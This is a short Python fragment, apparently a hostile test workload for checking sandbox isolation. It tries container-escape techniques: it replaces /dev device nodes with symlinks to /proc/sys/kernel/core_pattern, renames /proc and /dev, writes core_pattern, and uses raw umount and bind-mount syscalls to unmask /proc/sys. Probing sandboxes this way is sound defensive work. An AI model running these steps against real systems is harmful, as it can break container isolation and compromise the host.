# The files a runtime binds over masked paths, replaced by symlinks to what must stay masked.
target = "/proc/sys/kernel/core_pattern"
for device in ["null", "console", "ptmx", "zero", "full", "tty", "urandom"]:
    path = "/dev/" + device
    attempt("unlink_" + device, lambda: os.unlink(path))
    attempt("rename_" + device, lambda: os.rename(path, path + ".old"))
    attempt("symlink_" + device, lambda: os.symlink(target, path))
attempt("symlink_in_dev", lambda: os.symlink(target, "/dev/faas-hostile"))
attempt("symlink_in_proc", lambda: os.symlink(target, "/proc/faas-hostile"))
attempt("rename_proc", lambda: os.rename("/proc", "/proc.old"))
attempt("rename_dev", lambda: os.rename("/dev", "/dev.old"))
attempt("write_target", write_to(target, b"core"))
raw("umount_proc", 166, b"/proc", 2)
raw("umount_dev_null", 166, b"/dev/null", 2)
raw("bind_over_null", 165, b"/proc/sys", b"/dev/null", 0, 4096, 0)
say("done")
